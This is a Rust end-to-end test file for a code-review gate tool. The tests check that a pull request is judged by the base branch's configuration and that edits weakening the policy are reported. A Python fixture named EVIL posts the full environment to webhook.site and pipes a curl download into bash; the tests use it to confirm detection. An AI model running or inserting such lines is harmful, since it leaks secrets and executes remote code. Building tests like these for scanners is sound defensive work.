//! End-to-end: which configuration governs a change. A change never judges itself by its own rules:
//! `diff` and `github` use the base's `.review-gate.yml`, `staged` the working one, and every way a change
//! weakens the configuration is a `policy` finding.

mod common;

use common::{Repo, Run};

/// Exfiltration and download-and-run: two error-level attack chains.
const EVIL: &str = "import os, requests, subprocess\n\
requests.post(\"https://webhook.site/x\", data=dict(os.environ))\n\
subprocess.run(\"curl https://x.sh/i | bash\", shell=True)\n";

/// A configuration that turns every part of the review off.
const OFF: &str = "fail_on: never\n\
disable: [attack, secret]\n\
exclude: ['**']\n\
allow:\n  - paths: ['**']\n    reason: everything is fine\n\
severity:\n  exec: note\n";

/// What [`OFF`] weakens, one finding each, on these lines.
const OFF_WEAKENINGS: [(u64, &str); 6] = [
    (1, "raises `fail_on` from error to never"),
    (2, "disables `attack`"),
    (2, "disables `secret`"),
    (3, "excludes `**` from review"),
    (5, "allows findings of every check in `**`"),
    (8, "lowers the severity of `exec` from error to note"),
];

/// (line, message) of every `check` finding, in report order.
fn of_check(run: &Run, check: &str) -> Vec<(u64, String)> {
    run.json()["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["check"] == check)
        .map(|f| {
            (
                f["line"].as_u64().unwrap(),
                f["message"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn weakenings(run: &Run) -> Vec<(u64, String)> {
    of_check(run, "policy.config-weakened")
        .into_iter()
        .map(|(line, message)| {
            let what = message
                .strip_prefix("the change weakens the policy that reviews it: ")
                .unwrap_or_else(|| panic!("unexpected message: {message}"))
                .to_string();
            (line, what)
        })
        .collect()
}

fn expected(list: &[(u64, &str)]) -> Vec<(u64, String)> {
    list.iter().map(|(l, w)| (*l, w.to_string())).collect()
}

fn attack_chains(run: &Run) -> usize {
    run.findings()
        .iter()
        .filter(|f| f.2.starts_with("attack."))
        .count()
}

/// `main` with a harmless file; the branch `pr` checked out with `files` committed.
fn pull_request(base: &[(&str, &str)], files: &[(&str, &str)]) -> Repo {
    let repo = Repo::new();
    repo.write("README.md", "# app\n");
    for (path, content) in base {
        repo.write(path, content);
    }
    repo.commit("base");
    repo.git(&["checkout", "-q", "-b", "pr"]);
    for (path, content) in files {
        repo.write(path, content);
    }
    repo.commit("pr");
    repo
}

#[test]
fn diff_is_governed_by_the_base_and_lists_each_weakening() {
    let repo = pull_request(&[], &[(".review-gate.yml", OFF), ("evil.py", EVIL)]);
    for range in ["main", "main...pr", "main..pr"] {
        let run = repo.run(&["diff", range, "--format", "json"]);
        assert_eq!(run.code, 1, "{range}: {}{}", run.stdout, run.stderr);
        assert_eq!(attack_chains(&run), 2, "{range}: {}", run.stdout);
        assert_eq!(weakenings(&run), expected(&OFF_WEAKENINGS), "{range}");
        let f = &run.json()["findings"];
        let policy = f
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["check"] == "policy.config-weakened")
            .unwrap();
        assert_eq!(policy["path"], ".review-gate.yml");
        assert_eq!(policy["severity"], "warning");
        assert_eq!(policy["category"], "policy");
    }
    // The text report says it too.
    let run = repo.run(&["diff", "main"]);
    assert!(
        run.stdout
            .contains(".review-gate.yml:2:1: warning[policy.config-weakened]"),
        "{}",
        run.stdout
    );
}

#[test]
fn diff_worktree_compares_with_the_working_configuration() {
    let repo = pull_request(&[], &[]);
    repo.write(".review-gate.yml", OFF);
    repo.write("evil.py", EVIL);
    let run = repo.run(&["diff", "main", "--worktree", "--format", "json"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert_eq!(attack_chains(&run), 2);
    assert_eq!(weakenings(&run), expected(&OFF_WEAKENINGS));
}

#[test]
fn staged_is_governed_by_the_working_configuration_and_reports_the_weakening() {
    let repo = Repo::new();
    repo.write("README.md", "# app\n");
    repo.commit("base");
    repo.write(".review-gate.yml", OFF);
    repo.write("evil.py", EVIL);
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    // The developer's own configuration governs (nothing fails), but the weakening is reported.
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert_eq!(weakenings(&run), expected(&OFF_WEAKENINGS));
    // Even a configuration that disables and allows `policy` cannot hide it.
    repo.write(
        ".review-gate.yml",
        "disable: [policy]\nallow:\n  - checks: [policy]\n    reason: quiet\n",
    );
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    assert_eq!(
        weakenings(&run),
        expected(&[
            (1, "disables `policy`"),
            (3, "allows findings of `policy` in every path")
        ])
    );
}

#[test]
fn the_base_configuration_governs_whether_stricter_or_looser() {
    // The base fails on warnings; the pull request removes that: warnings still fail this review.
    let warning_only = "import subprocess\nsubprocess.run([\"ls\", path])\n";
    let repo = pull_request(
        &[(".review-gate.yml", "fail_on: warning\n")],
        &[(".review-gate.yml", ""), ("app.py", warning_only)],
    );
    let run = repo.run(&["diff", "main", "--format", "json"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert_eq!(
        weakenings(&run),
        expected(&[(1, "raises `fail_on` from warning to error")])
    );
    // The base disables exec; the pull request enables it again (tightening, not reported): the base's
    // looser policy still governs this review, and the stricter one applies from the next change.
    let repo = pull_request(
        &[(".review-gate.yml", "disable: [exec]\n")],
        &[
            (".review-gate.yml", "fail_on: error\n"),
            ("app.py", "import os\nos.system(cmd)\n"),
        ],
    );
    let run = repo.run(&["diff", "main", "--format", "json"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(weakenings(&run).is_empty(), "{}", run.stdout);
    assert!(
        !run.findings().iter().any(|f| f.2.starts_with("exec.")),
        "{}",
        run.stdout
    );
}

#[test]
fn the_base_check_files_govern_and_their_change_is_reported() {
    let check = |pattern: &str| {
        format!(
            "- id: local.danger\n  category: exec\n  severity: error\n  languages: [python]\n  keywords: [danger]\n  pattern: '{pattern}'\n  message: calls danger\n  help: |\n    What it finds: danger().\n    Why it matters: a test.\n    Example: danger()\n"
        )
    };
    let repo = pull_request(
        &[
            (".review-gate.yml", "checks: [local.yml]\n"),
            ("local.yml", &check(r"\bdanger\(")),
        ],
        &[
            ("local.yml", &check("never-matches-anything")),
            ("app.py", "danger()\n"),
        ],
    );
    let run = repo.run(&["diff", "main", "--format", "json"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert!(run
        .findings()
        .contains(&("app.py".into(), 1, "local.danger".into())));
    assert_eq!(
        weakenings(&run),
        expected(&[(
            1,
            "changes the check file `local.yml` (its checks may no longer find what they did)"
        )])
    );
}

#[test]
fn a_changed_configuration_that_does_not_load_is_a_finding_and_the_base_still_governs() {
    let repo = pull_request(
        &[],
        &[
            (".review-gate.yml", "fail_on: sometimes\n"),
            ("evil.py", EVIL),
        ],
    );
    let run = repo.run(&["diff", "main", "--format", "json"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert_eq!(attack_chains(&run), 2);
    let invalid = of_check(&run, "policy.config-invalid");
    assert_eq!(invalid.len(), 1, "{}", run.stdout);
    assert_eq!(invalid[0].0, 1);
    assert!(invalid[0].1.contains("sometimes"), "{:?}", invalid);
    // The SARIF report does not depend on the broken working configuration either.
    let run = repo.run(&["diff", "main", "--format", "sarif"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("policy.config-invalid"));
    // Where it governs, it is an error.
    let run = repo.run(&["scan", "evil.py"]);
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
}

#[test]
fn a_config_file_named_inside_the_repository_is_read_from_the_base() {
    let repo = pull_request(
        &[("ci/review-gate.yml", "fail_on: error\n")],
        &[
            ("ci/review-gate.yml", "disable: [attack]\n"),
            ("evil.py", EVIL),
        ],
    );
    let run = repo.run(&[
        "diff",
        "main",
        "--config",
        "ci/review-gate.yml",
        "--format",
        "json",
    ]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert_eq!(attack_chains(&run), 2);
    assert_eq!(weakenings(&run), expected(&[(1, "disables `attack`")]));
    let policy = run.json()["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["check"] == "policy.config-weakened")
        .cloned()
        .unwrap();
    assert_eq!(policy["path"], "ci/review-gate.yml");
    // A file outside the repository is the user's own choice: it governs.
    let outside = tempfile::tempdir().unwrap();
    let file = outside.path().join("rg.yml");
    std::fs::write(&file, "disable: [attack]\n").unwrap();
    let run = repo.run(&[
        "diff",
        "main",
        "--config",
        file.to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert_eq!(attack_chains(&run), 0, "{}", run.stdout);
}

#[test]
fn check_files_outside_the_repository_are_refused() {
    let repo = Repo::new();
    let parent = repo.path().parent().unwrap();
    let outside = parent.join(format!("outside-{}.yml", std::process::id()));
    std::fs::write(&outside, "[]\n").unwrap();
    let name = outside.file_name().unwrap().to_str().unwrap().to_string();
    for written in [format!("../{name}"), outside.display().to_string()] {
        repo.write(".review-gate.yml", format!("checks: ['{written}']\n"));
        repo.write("app.py", "print(1)\n");
        let run = repo.run(&["scan"]);
        assert_eq!(run.code, 2, "{written}: {}{}", run.stdout, run.stderr);
        assert!(
            run.stderr.contains("outside the repository")
                && run.stderr.contains(".review-gate.yml:1"),
            "{written}: {}",
            run.stderr
        );
    }
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(&outside, repo.path().join("link.yml")).unwrap();
        repo.write(".review-gate.yml", "checks: [link.yml]\n");
        let run = repo.run(&["scan"]);
        assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
        assert!(run.stderr.contains("symbolic link"), "{}", run.stderr);
    }
    std::fs::remove_file(&outside).unwrap();
}
